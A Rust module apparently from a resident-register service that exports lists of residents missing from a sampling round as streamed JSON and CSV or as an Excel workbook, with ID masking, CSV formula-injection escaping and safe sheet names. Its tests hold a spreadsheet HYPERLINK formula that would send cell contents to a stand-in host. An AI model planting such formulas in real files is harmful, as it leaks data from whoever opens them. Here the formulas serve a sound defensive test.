//! The files of a missing list, built outside the engine's lock.
//!
//! A missing list is copied out of the engine under its read lock into a
//! [`MissingList`]: one text buffer and a small fixed-size entry per person,
//! each distinct area and head once. Everything after that — the JSON and CSV
//! streams, the workbook — reads only the copy, so an export never holds the
//! lock that record uploads and gate lookups wait on. The JSON and CSV
//! answers are streamed in chunks of about [`CHUNK_BYTES`], so an answer
//! costs its copy and one chunk, never a tree of values or a whole file.
//!
//! Also the two rules that make a file safe to open: CSV cells that a
//! spreadsheet would run as a formula get a leading `'` ([`csv_cell`]), and
//! worksheet names are valid in Excel for any area name ([`SheetNames`]).

use std::borrow::Cow;
use std::collections::HashSet;
use std::sync::Arc;

use actix_web::web::Bytes;
use futures_util::Stream;
use rustc_hash::FxHashMap;
use serde::Serialize;

use crate::domain::PersonId;
use crate::engine::{Counts, Engine};

/// About how many bytes each streamed chunk holds.
pub const CHUNK_BYTES: usize = 64 * 1024;

/// The CSV and XLSX columns, in order.
pub const COLUMNS: [&str; 8] = [
    "person_id",
    "name",
    "phone",
    "area",
    "household",
    "head_title",
    "head_name",
    "head_phone",
];

/// A responsible head as the list shows it.
#[derive(Clone, Debug, Serialize, PartialEq, Eq)]
pub struct HeadOut {
    pub title: String,
    pub name: String,
    pub phone: String,
}

/// One area node of a list, with the head its people answer to.
#[derive(Debug)]
struct Area {
    path: String,
    /// Index into `heads`.
    head: Option<u32>,
}

/// One head of a list, with the area node it is the head of (grouping key).
#[derive(Debug)]
struct Head {
    area: String,
    out: HeadOut,
}

/// One person: the ID, and where their strings and area are.
#[derive(Clone, Copy, Debug)]
struct Entry {
    id: PersonId,
    /// `text[start..name_end]` is the name, then the phone, then the household.
    start: u32,
    name_end: u32,
    phone_end: u32,
    household_end: u32,
    area: u32,
}

/// A missing list, copied out of the engine: about 70 bytes per person.
#[derive(Debug, Default)]
pub struct MissingList {
    text: String,
    people: Vec<Entry>,
    areas: Vec<Area>,
    heads: Vec<Head>,
    unmask: bool,
}

/// One person of a list, borrowed from it; serialises as the contract's
/// person object.
#[derive(Debug, Serialize)]
pub struct PersonView<'a> {
    pub person_id: String,
    pub name: &'a str,
    pub phone: &'a str,
    pub area: &'a str,
    pub household: &'a str,
    pub head: Option<&'a HeadOut>,
}

impl PersonView<'_> {
    /// The CSV/XLSX cells, in [`COLUMNS`] order (unescaped).
    pub fn cells(&self) -> [&str; 8] {
        let (t, n, p) = self
            .head
            .map_or(("", "", ""), |h| (&*h.title, &*h.name, &*h.phone));
        [
            &self.person_id,
            self.name,
            self.phone,
            self.area,
            self.household,
            t,
            n,
            p,
        ]
    }
}

impl MissingList {
    /// Copies the register rows `rows` (in list order) out of the engine.
    /// Call it under the engine's read lock; it does nothing else.
    pub fn copy(e: &Engine, rows: &[u32], unmask: bool) -> MissingList {
        let reg = e.register();
        let mut list = MissingList {
            text: String::with_capacity(rows.len() * 40),
            people: Vec::with_capacity(rows.len()),
            unmask,
            ..MissingList::default()
        };
        let mut area_of: FxHashMap<u32, u32> = FxHashMap::default();
        let mut head_of: FxHashMap<u32, u32> = FxHashMap::default();
        for &row in rows {
            let p = reg.resident(row);
            let area = if let Some(&a) = area_of.get(&p.node) {
                a
            } else {
                let head = reg.nearest_head(p.node).map(|(n, h)| {
                    *head_of.entry(n).or_insert_with(|| {
                        list.heads.push(Head {
                            area: reg.nodes()[n as usize].path.to_string(),
                            out: HeadOut {
                                title: h.title.clone(),
                                name: h.name.clone(),
                                phone: h.phone.clone(),
                            },
                        });
                        list.heads.len() as u32 - 1
                    })
                });
                list.areas.push(Area {
                    path: p.area.to_string(),
                    head,
                });
                let a = list.areas.len() as u32 - 1;
                area_of.insert(p.node, a);
                a
            };
            let start = list.text.len() as u32;
            list.text.push_str(p.name);
            let name_end = list.text.len() as u32;
            list.text.push_str(p.phone);
            let phone_end = list.text.len() as u32;
            list.text.push_str(p.household);
            list.people.push(Entry {
                id: p.person_id,
                start,
                name_end,
                phone_end,
                household_end: list.text.len() as u32,
                area,
            });
        }
        list
    }

    pub fn len(&self) -> usize {
        self.people.len()
    }

    pub fn is_empty(&self) -> bool {
        self.people.is_empty()
    }

    /// The `i`th person, in list order.
    pub fn person(&self, i: usize) -> PersonView<'_> {
        let p = &self.people[i];
        let area = &self.areas[p.area as usize];
        let s = |a: u32, b: u32| &self.text[a as usize..b as usize];
        PersonView {
            person_id: if self.unmask {
                p.id.to_string()
            } else {
                p.id.masked()
            },
            name: s(p.start, p.name_end),
            phone: s(p.name_end, p.phone_end),
            area: &area.path,
            household: s(p.phone_end, p.household_end),
            head: area.head.map(|h| &self.heads[h as usize].out),
        }
    }

    /// The area path of the `i`th person.
    pub fn area(&self, i: usize) -> &str {
        &self.areas[self.people[i].area as usize].path
    }

    /// The head of a group made by [`MissingList::groups`].
    pub fn head(&self, h: u32) -> &HeadOut {
        &self.heads[h as usize].out
    }

    /// The area node whose head that is.
    pub fn head_area(&self, h: u32) -> &str {
        &self.heads[h as usize].area
    }

    /// The people grouped by head: one group per head (an index for
    /// [`MissingList::head`]) in the order of the head's area path, people
    /// in list order, the head-less last. Four bytes per person.
    pub fn groups(&self) -> Vec<(Option<u32>, Vec<u32>)> {
        let mut by_head: Vec<Vec<u32>> = vec![Vec::new(); self.heads.len()];
        let mut headless = Vec::new();
        for (i, p) in self.people.iter().enumerate() {
            match self.areas[p.area as usize].head {
                Some(h) => by_head[h as usize].push(i as u32),
                None => headless.push(i as u32),
            }
        }
        let mut order: Vec<u32> = (0..self.heads.len() as u32).collect();
        order.sort_by(|&a, &b| {
            self.heads[a as usize]
                .area
                .cmp(&self.heads[b as usize].area)
        });
        let mut out: Vec<(Option<u32>, Vec<u32>)> = order
            .into_iter()
            .map(|h| (Some(h), std::mem::take(&mut by_head[h as usize])))
            .filter(|(_, ps)| !ps.is_empty())
            .collect();
        if !headless.is_empty() {
            out.push((None, headless));
        }
        out
    }
}

/// `unmask=true|false` of a list's query (default false): whole ID numbers,
/// for an admin only (`403 forbidden` for anyone else).
pub fn unmask_param<S: std::hash::BuildHasher>(
    q: &std::collections::HashMap<String, String, S>,
    who: &crate::http::auth::Principal,
) -> Result<bool, crate::http::error::ApiError> {
    use crate::http::error::{ApiError, Code};
    let unmask = match q.get("unmask").map(String::as_str) {
        None | Some("false") => false,
        Some("true") => true,
        Some(_) => {
            return Err(ApiError::new(
                Code::InvalidQuery,
                "`unmask` must be true or false",
            ));
        }
    };
    if unmask && !who.is_admin() {
        return Err(ApiError::new(
            Code::Forbidden,
            "only an admin may unmask IDs",
        ));
    }
    Ok(unmask)
}

/// A CSV cell as written: one a spreadsheet would run as a formula (it
/// begins with `=`, `+`, `-`, `@`, a tab or a carriage return) gets a
/// leading `'`.
pub fn csv_cell(s: &str) -> Cow<'_, str> {
    if s.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        Cow::Owned(format!("'{s}"))
    } else {
        Cow::Borrowed(s)
    }
}

/// Writes one CSV record of escaped cells, quoted where CSV needs it, as
/// the `csv` crate writes them.
fn csv_record<'a>(buf: &mut Vec<u8>, cells: impl IntoIterator<Item = &'a str>) {
    for (i, cell) in cells.into_iter().enumerate() {
        if i > 0 {
            buf.push(b',');
        }
        let cell = csv_cell(cell);
        if cell.contains([',', '"', '\n', '\r']) {
            buf.push(b'"');
            for part in cell.split_inclusive('"') {
                buf.extend_from_slice(part.as_bytes());
                if part.ends_with('"') {
                    buf.push(b'"');
                }
            }
            buf.push(b'"');
        } else {
            buf.extend_from_slice(cell.as_bytes());
        }
    }
    buf.push(b'\n');
}

/// A body streamed in chunks of about [`CHUNK_BYTES`]: `head`, then `n`
/// items written by `write(i, buf)`, then `tail`. `keep` (an admission) is
/// held until the last chunk is made or the body is dropped.
pub fn chunked<W, K>(
    head: Vec<u8>,
    n: usize,
    tail: &'static [u8],
    keep: K,
    mut write: W,
) -> impl Stream<Item = Result<Bytes, actix_web::Error>> + 'static
where
    W: FnMut(usize, &mut Vec<u8>) -> Result<(), String> + 'static,
    K: 'static,
{
    let mut buf = head;
    let mut i = 0;
    let mut keep = Some(keep);
    futures_util::stream::iter(std::iter::from_fn(move || {
        keep.as_ref()?;
        while i < n && buf.len() < CHUNK_BYTES {
            if let Err(e) = write(i, &mut buf) {
                keep = None;
                return Some(Err(actix_web::error::ErrorInternalServerError(e)));
            }
            i += 1;
        }
        let done = i == n;
        if done {
            buf.extend_from_slice(tail);
            keep = None;
        }
        let next = Vec::with_capacity(if done { 0 } else { CHUNK_BYTES + 1024 });
        Some(Ok(Bytes::from(std::mem::replace(&mut buf, next))))
    }))
}

/// The list as CSV (header [`COLUMNS`]), streamed, every cell escaped.
/// `keep` is held until the stream ends.
pub fn csv_stream<K: 'static>(
    list: Arc<MissingList>,
    keep: K,
) -> impl Stream<Item = Result<Bytes, actix_web::Error>> + 'static {
    let mut head = Vec::new();
    csv_record(&mut head, COLUMNS);
    let n = list.len();
    chunked(head, n, b"", keep, move |i, buf| {
        csv_record(buf, list.person(i).cells());
        Ok(())
    })
}

/// The list as the contract's JSON: `{"round_id","area","total","people":[…]}`,
/// or with `grouped`, `…"groups":[{"head","people":[…]}]}`; streamed.
/// `keep` is held until the stream ends.
pub fn json_stream<K: 'static>(
    list: Arc<MissingList>,
    round_id: &str,
    area: Option<&str>,
    grouped: bool,
    keep: K,
) -> impl Stream<Item = Result<Bytes, actix_web::Error>> + 'static {
    let mut head = Vec::with_capacity(256);
    head.extend_from_slice(b"{\"round_id\":");
    let _ = serde_json::to_writer(&mut head, round_id);
    head.extend_from_slice(b",\"area\":");
    let _ = serde_json::to_writer(&mut head, &area);
    head.extend_from_slice(format!(",\"total\":{}", list.len()).as_bytes());
    head.extend_from_slice(if grouped {
        b",\"groups\":["
    } else {
        b",\"people\":["
    });
    let person = |list: &MissingList, i: usize, buf: &mut Vec<u8>| {
        serde_json::to_writer(buf, &list.person(i)).map_err(|e| e.to_string())
    };
    if grouped {
        // Flattened: the `k`th item is person `order[k]`; `starts[g]` is
        // where group `g` begins.
        let groups = list.groups();
        let mut starts = Vec::with_capacity(groups.len() + 1);
        let mut order = Vec::with_capacity(list.len());
        let mut heads = Vec::with_capacity(groups.len());
        for (h, ps) in groups {
            starts.push(order.len());
            heads.push(h);
            order.extend(ps);
        }
        starts.push(order.len());
        let mut g = 0;
        let n = order.len();
        Box::pin(chunked(head, n, b"]}", keep, move |k, buf| {
            if k == starts[g] {
                if g > 0 {
                    buf.push(b',');
                }
                buf.extend_from_slice(b"{\"head\":");
                serde_json::to_writer(&mut *buf, &heads[g].map(|h| list.head(h)))
                    .map_err(|e| e.to_string())?;
                buf.extend_from_slice(b",\"people\":[");
            } else {
                buf.push(b',');
            }
            person(&list, order[k] as usize, buf)?;
            if k + 1 == starts[g + 1] {
                buf.extend_from_slice(b"]}");
                g += 1;
            }
            Ok(())
        })) as std::pin::Pin<Box<dyn Stream<Item = _>>>
    } else {
        let n = list.len();
        Box::pin(chunked(head, n, b"]}", keep, move |i, buf| {
            if i > 0 {
                buf.push(b',');
            }
            person(&list, i, buf)
        }))
    }
}

/// The grid of an area: its first three segments (subdistrict/community/grid).
pub fn grid_of(area: &str) -> &str {
    match area.match_indices('/').nth(2) {
        Some((i, _)) => &area[..i],
        None => area,
    }
}

/// Excel's row limit less the header row.
pub const EXCEL_MAX_PEOPLE_ROWS: usize = 1_048_575;

/// Excel's longest sheet name, in UTF-16 code units.
pub const SHEET_NAME_MAX: usize = 31;

/// Worksheet names valid in Excel for any base string: at most
/// [`SHEET_NAME_MAX`] UTF-16 units, none of `[]:*?/\` (nor control
/// characters), no leading or trailing apostrophe, never `History` (a name
/// Excel keeps for itself), unique as Excel compares them (ignoring case),
/// a repeat getting `~2`, `~3`, … within the limit.
#[derive(Debug, Default)]
pub struct SheetNames {
    used: HashSet<String>,
}

impl SheetNames {
    /// A fresh valid name for `base`.
    pub fn name(&mut self, base: &str) -> String {
        let clean: String = base
            .chars()
            .map(|c| {
                if "[]:*?/\\".contains(c) || c.is_control() {
                    '_'
                } else {
                    c
                }
            })
            .collect();
        let clean = clean.trim_matches('\'');
        let clean = if clean.is_empty() { "_" } else { clean };
        let mut k = 1u64;
        loop {
            let suffix = if k == 1 {
                String::new()
            } else {
                format!("~{k}")
            };
            let mut name = fit(clean, SHEET_NAME_MAX - suffix.len());
            if suffix.is_empty() && name.eq_ignore_ascii_case("history") {
                name.push('_');
            }
            name.push_str(&suffix);
            if self.used.insert(name.to_lowercase()) {
                return name;
            }
            k += 1;
        }
    }
}

/// The longest prefix of `s` of at most `units` UTF-16 units, without a
/// trailing apostrophe (`_` if nothing is left).
fn fit(s: &str, units: usize) -> String {
    let mut used = 0;
    let mut out: String = s
        .chars()
        .take_while(|c| {
            used += c.len_utf16();
            used <= units
        })
        .collect();
    while out.ends_with('\'') {
        out.pop();
    }
    if out.is_empty() {
        out.push('_');
    }
    out
}

fn display_width(s: &str) -> f64 {
    s.chars()
        .map(|c| if (c as u32) < 0x1100 { 1.0 } else { 2.1 })
        .sum()
}

/// The workbook: a summary sheet (one row per grid), then each grid's people
/// on its own sheet with the CSV's columns, split across sheets only when a
/// grid passes `max_rows` people. Every cell is a string or number cell,
/// never a formula, whatever it holds.
pub fn xlsx_bytes(
    summary: &[(String, Counts)],
    list: &MissingList,
    max_rows: usize,
) -> Result<Vec<u8>, rust_xlsxwriter::XlsxError> {
    use rust_xlsxwriter::{Format, Workbook};
    let mut wb = Workbook::new();
    let bold = Format::new().set_bold();
    let mut names = SheetNames::default();
    {
        let ws = wb.add_worksheet_with_constant_memory()?;
        ws.set_name(names.name("汇总 summary"))?;
        let cols = [
            "grid", "in_scope", "sampled", "made_up", "exempt", "missing",
        ];
        for (c, h) in cols.iter().enumerate() {
            ws.write_string_with_format(0, c as u16, *h, &bold)?;
        }
        let mut widest = 10.0f64;
        for (i, (grid, c)) in summary.iter().enumerate() {
            let r = i as u32 + 1;
            ws.write_string(r, 0, grid)?;
            for (col, v) in [c.in_scope, c.sampled, c.made_up, c.exempt, c.missing]
                .into_iter()
                .enumerate()
            {
                ws.write_number(r, col as u16 + 1, v as f64)?;
            }
            widest = widest.max(display_width(grid));
        }
        ws.set_column_width(0, widest.min(80.0) + 2.0)?;
        ws.set_freeze_panes(1, 0)?;
    }
    // People are in list order (by area), so each grid's people are contiguous.
    let mut i = 0;
    while i < list.len() {
        let grid = grid_of(list.area(i));
        let mut j = i;
        while j < list.len() && grid_of(list.area(j)) == grid {
            j += 1;
        }
        let base = grid.rsplit('/').next().unwrap_or(grid);
        let parts = (j - i).div_ceil(max_rows);
        for part in 0..parts {
            let rows = i + part * max_rows..(i + (part + 1) * max_rows).min(j);
            let name = if parts > 1 {
                names.name(&format!("{base} ({})", part + 1))
            } else {
                names.name(base)
            };
            let ws = wb.add_worksheet_with_constant_memory()?;
            ws.set_name(name)?;
            let mut widths: Vec<f64> = COLUMNS.iter().map(|h| display_width(h)).collect();
            for (c, h) in COLUMNS.iter().enumerate() {
                ws.write_string_with_format(0, c as u16, *h, &bold)?;
            }
            for (k, p) in rows.enumerate() {
                let p = list.person(p);
                for (c, cell) in p.cells().iter().enumerate() {
                    ws.write_string(k as u32 + 1, c as u16, *cell)?;
                    if k < 2_000 {
                        widths[c] = widths[c].max(display_width(cell));
                    }
                }
            }
            for (c, w) in widths.iter().enumerate() {
                ws.set_column_width(c as u16, w.min(80.0) + 2.0)?;
            }
            ws.set_freeze_panes(1, 0)?;
        }
        i = j;
    }
    wb.save_to_buffer()
}

#[cfg(test)]
mod tests {
    use super::*;
    use calamine::{Reader, Xlsx};
    use futures_util::StreamExt;
    use proptest::prelude::*;
    use std::fmt::Write;

    /// A list built by hand, as `copy` would from a register.
    fn list(people: &[(usize, &str, Option<&str>)]) -> MissingList {
        let mut l = MissingList::default();
        for &(i, area, head) in people {
            let path = format!("崇文路街道/学院社区/{area}");
            let a = match l.areas.iter().position(|a| a.path == path) {
                Some(a) => a as u32,
                None => {
                    let head = head.map(|name| {
                        l.heads.push(Head {
                            area: path.clone(),
                            out: HeadOut {
                                title: "楼层长".into(),
                                name: name.into(),
                                phone: "13900000001".into(),
                            },
                        });
                        l.heads.len() as u32 - 1
                    });
                    l.areas.push(Area { path, head });
                    l.areas.len() as u32 - 1
                }
            };
            let start = l.text.len() as u32;
            let _ = write!(l.text, "居民{i}");
            let name_end = l.text.len() as u32;
            l.text.push_str("13900000000");
            let phone_end = l.text.len() as u32;
            let _ = write!(l.text, "H{i}");
            let id = PersonId::from_u64(61_080_219_850_312_000 + (i % 1000) as u64).unwrap();
            l.people.push(Entry {
                id,
                start,
                name_end,
                phone_end,
                household_end: l.text.len() as u32,
                area: a,
            });
        }
        l
    }

    /// A list of one person called `name`.
    fn one_named(name: &str) -> MissingList {
        let mut l = list(&[(1, "第01网格/01号楼/01层", None)]);
        l.text = l.text.replacen("居民1", name, 1);
        let shift = name.len() as u32 - "居民1".len() as u32;
        let p = &mut l.people[0];
        p.name_end += shift;
        p.phone_end += shift;
        p.household_end += shift;
        l
    }

    fn grid(n: usize, g: &str) -> Vec<(usize, String)> {
        (0..n).map(|i| (i, format!("{g}/01号楼/01层"))).collect()
    }

    fn read(bytes: Vec<u8>) -> Vec<(String, Vec<Vec<String>>)> {
        let mut wb: Xlsx<_> = calamine::open_workbook_from_rs(std::io::Cursor::new(bytes)).unwrap();
        wb.sheet_names()
            .into_iter()
            .map(|name| {
                let range = wb.worksheet_range(&name).unwrap();
                let rows = range
                    .rows()
                    .map(|r| r.iter().map(ToString::to_string).collect())
                    .collect();
                (name, rows)
            })
            .collect()
    }

    fn rows_of(l: &MissingList) -> Vec<Vec<String>> {
        (0..l.len())
            .map(|i| {
                l.person(i)
                    .cells()
                    .iter()
                    .map(|c| (*c).to_owned())
                    .collect()
            })
            .collect()
    }

    #[test]
    fn the_workbook_has_a_summary_then_one_sheet_per_grid_with_the_csv_columns() {
        let people: Vec<_> = grid(5, "第01网格")
            .into_iter()
            .chain(grid(3, "第02网格").into_iter().map(|(i, a)| (i + 5, a)))
            .collect();
        let l = list(
            &people
                .iter()
                .map(|(i, a)| (*i, a.as_str(), Some("王芳")))
                .collect::<Vec<_>>(),
        );
        let summary = vec![
            (
                "崇文路街道/学院社区/第01网格".to_owned(),
                Counts {
                    in_scope: 9,
                    sampled: 4,
                    missing: 5,
                    ..Counts::default()
                },
            ),
            (
                "崇文路街道/学院社区/第02网格".to_owned(),
                Counts {
                    in_scope: 3,
                    missing: 3,
                    ..Counts::default()
                },
            ),
        ];
        let sheets = read(xlsx_bytes(&summary, &l, EXCEL_MAX_PEOPLE_ROWS).unwrap());
        assert_eq!(sheets.len(), 3);
        assert_eq!(
            sheets[0].1[0],
            [
                "grid", "in_scope", "sampled", "made_up", "exempt", "missing"
            ]
        );
        assert_eq!(sheets[0].1[1][0], "崇文路街道/学院社区/第01网格");
        assert_eq!(sheets[0].1[1][5], "5");
        assert_eq!(sheets[1].0, "第01网格");
        assert_eq!(sheets[1].1[0], COLUMNS);
        let rows: Vec<Vec<String>> = sheets[1..]
            .iter()
            .flat_map(|(_, rows)| rows[1..].to_vec())
            .collect();
        assert_eq!(
            rows,
            rows_of(&l),
            "the sheets hold exactly the list, in order"
        );
    }

    #[test]
    fn a_grid_past_the_row_limit_is_split_across_sheets_never_truncated() {
        let people = grid(7, "第01网格");
        let l = list(
            &people
                .iter()
                .map(|(i, a)| (*i, a.as_str(), None))
                .collect::<Vec<_>>(),
        );
        let sheets = read(xlsx_bytes(&[], &l, 3).unwrap());
        let names: Vec<&str> = sheets.iter().map(|(n, _)| n.as_str()).collect();
        assert_eq!(names[1..], ["第01网格 (1)", "第01网格 (2)", "第01网格 (3)"]);
        let total: usize = sheets[1..].iter().map(|(_, r)| r.len() - 1).sum();
        assert_eq!(total, 7);
        assert!(sheets[1..].iter().all(|(_, r)| r[0] == COLUMNS));
    }

    #[test]
    fn a_name_that_looks_like_a_formula_is_a_string_cell_in_the_workbook() {
        let evil = "=HYPERLINK(\"http://x.test/\"&A1,\"click\")";
        let l = one_named(evil);
        let bytes = xlsx_bytes(&[], &l, EXCEL_MAX_PEOPLE_ROWS).unwrap();
        let mut wb: Xlsx<_> = calamine::open_workbook_from_rs(std::io::Cursor::new(bytes)).unwrap();
        let name = wb.sheet_names()[1].clone();
        let values = wb.worksheet_range(&name).unwrap();
        assert_eq!(
            values.get_value((1, 1)),
            Some(&calamine::Data::String(evil.to_owned())),
            "written as the string it is"
        );
        let formulas = wb.worksheet_formula(&name).unwrap();
        assert!(
            formulas.used_cells().all(|(_, _, f)| f.is_empty()),
            "no cell of the sheet is a formula"
        );
    }

    #[test]
    fn groups_follow_the_heads_area_path_and_the_headless_come_last() {
        let l = list(&[
            (0, "第01网格/01号楼/01层", None),
            (1, "第01网格/01号楼/02层", Some("乙")),
            (2, "第02网格/01号楼/01层", Some("甲")),
            (3, "第02网格/01号楼/01层", Some("甲")),
        ]);
        let groups = l.groups();
        let heads: Vec<Option<&str>> = groups
            .iter()
            .map(|(h, _)| h.map(|h| l.head(h).name.as_str()))
            .collect();
        assert_eq!(heads, [Some("乙"), Some("甲"), None]);
        let people: Vec<Vec<u32>> = groups.into_iter().map(|(_, p)| p).collect();
        assert_eq!(people, [vec![1], vec![2, 3], vec![0]]);
    }

    #[test]
    fn the_grid_of_an_area_is_its_first_three_segments() {
        assert_eq!(grid_of("a/b/c/d/e"), "a/b/c");
        assert_eq!(grid_of("a/b"), "a/b");
    }

    fn block_on<F: std::future::Future>(f: F) -> F::Output {
        tokio::runtime::Builder::new_current_thread()
            .build()
            .unwrap()
            .block_on(f)
    }

    fn body(s: impl Stream<Item = Result<Bytes, actix_web::Error>>) -> (Vec<u8>, usize) {
        let chunks: Vec<Bytes> = block_on(s.map(Result::unwrap).collect::<Vec<_>>());
        (chunks.concat(), chunks.len())
    }

    #[test]
    fn the_json_streams_are_the_contracts_objects_in_bounded_chunks() {
        let people: Vec<_> = (0..3000)
            .map(|i| {
                let g = if i < 1000 {
                    "第01网格"
                } else {
                    "第02网格"
                };
                (i, format!("{g}/01号楼/01层"), (i >= 1000).then_some("王芳"))
            })
            .collect();
        let l = Arc::new(list(
            &people
                .iter()
                .map(|(i, a, h)| (*i, a.as_str(), *h))
                .collect::<Vec<_>>(),
        ));
        let (bytes, chunks) = body(json_stream(l.clone(), "7", None, false, ()));
        let v: serde_json::Value = serde_json::from_slice(&bytes).unwrap();
        assert_eq!(v["round_id"], "7");
        assert_eq!(v["area"], serde_json::Value::Null);
        assert_eq!(v["total"], 3000);
        assert_eq!(v["people"].as_array().unwrap().len(), 3000);
        assert_eq!(
            v["people"][1500],
            serde_json::to_value(l.person(1500)).unwrap()
        );
        assert!(v["people"][0]["head"].is_null());
        assert!(chunks > 1, "streamed, not built whole");

        let (bytes, _) = body(json_stream(l.clone(), "7", Some("a/b"), true, ()));
        let v: serde_json::Value = serde_json::from_slice(&bytes).unwrap();
        assert_eq!(v["area"], "a/b");
        let groups = v["groups"].as_array().unwrap();
        assert_eq!(groups.len(), 2);
        assert_eq!(groups[0]["head"]["name"], "王芳");
        assert_eq!(groups[0]["people"].as_array().unwrap().len(), 2000);
        assert!(groups[1]["head"].is_null());
        assert_eq!(groups[1]["people"].as_array().unwrap().len(), 1000);

        let empty = Arc::new(MissingList::default());
        for grouped in [false, true] {
            let (bytes, _) = body(json_stream(empty.clone(), "1", None, grouped, ()));
            let v: serde_json::Value = serde_json::from_slice(&bytes).unwrap();
            assert_eq!(v["total"], 0);
        }
    }

    #[test]
    fn a_stream_holds_what_it_keeps_until_its_last_chunk() {
        let kept = Arc::new(());
        let l = Arc::new(list(&[(1, "第01网格/01号楼/01层", None)]));
        let mut s = Box::pin(csv_stream(l, kept.clone()));
        assert_eq!(Arc::strong_count(&kept), 2);
        assert!(block_on(s.next()).is_some());
        assert_eq!(Arc::strong_count(&kept), 1, "released with the last chunk");
        assert!(block_on(s.next()).is_none());
    }

    #[test]
    fn csv_cells_that_a_spreadsheet_would_run_get_a_leading_apostrophe() {
        for s in ["=1+1", "+8613900000000", "-2", "@SUM(A1)", "\tx", "\rx"] {
            assert_eq!(csv_cell(s), format!("'{s}"));
        }
        for s in ["", "王芳", "1=1", "a+b", " =1", "'=1", "610802********001X"] {
            assert_eq!(csv_cell(s), s);
        }
    }

    #[test]
    fn the_csv_stream_escapes_every_cell_and_quotes_as_csv_does() {
        let evil = "=HYPERLINK(\"http://x\",\"c\")";
        let l = one_named(evil);
        let (bytes, _) = body(csv_stream(Arc::new(l), ()));
        let mut rd = csv::Reader::from_reader(bytes.as_slice());
        assert_eq!(rd.headers().unwrap().iter().collect::<Vec<_>>(), COLUMNS);
        let row = rd.records().next().unwrap().unwrap();
        assert_eq!(&row[1], format!("'{evil}"));
    }

    /// Excel's rules, checked apart from the code that makes the names.
    fn valid(name: &str) -> bool {
        rust_xlsxwriter::utility::check_sheet_name(name).is_ok()
            && name.encode_utf16().count() <= SHEET_NAME_MAX
            && !name.contains(['[', ']', ':', '*', '?', '/', '\\'])
            && !name.starts_with('\'')
            && !name.ends_with('\'')
            && !name.chars().any(char::is_control)
            && !name.eq_ignore_ascii_case("history")
    }

    #[test]
    fn odd_area_names_make_valid_unique_sheet_names() {
        let mut n = SheetNames::default();
        assert_eq!(n.name("第01网格"), "第01网格");
        assert_eq!(n.name("'g'"), "g");
        assert_eq!(n.name("History"), "History_");
        assert_eq!(n.name("history"), "history~2");
        assert_eq!(n.name("a/b[c]"), "a_b_c_");
        assert_eq!(n.name("'"), "_");
        assert_eq!(n.name("G"), "G~2", "Excel ignores case");
        let long = "很长的网格名称".repeat(5);
        let mut seen = HashSet::new();
        for _ in 0..250 {
            let s = n.name(&long);
            assert!(valid(&s), "{s}");
            assert!(seen.insert(s.to_lowercase()));
        }
        // A cut that would end on an apostrophe drops it.
        let s = n.name(&format!("{}'x", "a".repeat(30)));
        assert!(valid(&s), "{s}");
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(2_000))]

        #[test]
        fn any_bases_give_valid_unique_sheet_names(
            bases in proptest::collection::vec(any::<String>(), 1..40),
            repeat in 1usize..130,
        ) {
            let mut n = SheetNames::default();
            let mut seen = HashSet::new();
            for (i, b) in bases.iter().enumerate() {
                let times = if i == 0 { repeat } else { 1 };
                for _ in 0..times {
                    let s = n.name(b);
                    prop_assert!(valid(&s), "{:?} gave {:?}", b, s);
                    prop_assert!(seen.insert(s.to_lowercase()), "{:?} repeated", s);
                }
            }
        }
    }
}
